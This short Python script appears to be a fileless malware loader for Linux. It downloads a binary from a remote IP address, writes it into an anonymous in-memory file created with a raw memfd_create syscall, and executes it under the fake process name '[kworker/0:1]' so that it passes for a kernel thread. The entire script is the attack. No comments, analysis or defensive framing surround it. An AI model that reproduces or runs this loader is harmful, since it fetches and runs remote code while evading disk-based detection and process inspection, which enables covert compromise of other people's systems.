import ctypes
import os
import urllib.request

payload = urllib.request.urlopen("http://203.0.113.90/elf").read()
libc = ctypes.CDLL(None)
fd = libc.syscall(319, b"", 1)
os.write(fd, payload)
os.execv("/proc/self/fd/%d" % fd, ["[kworker/0:1]"])
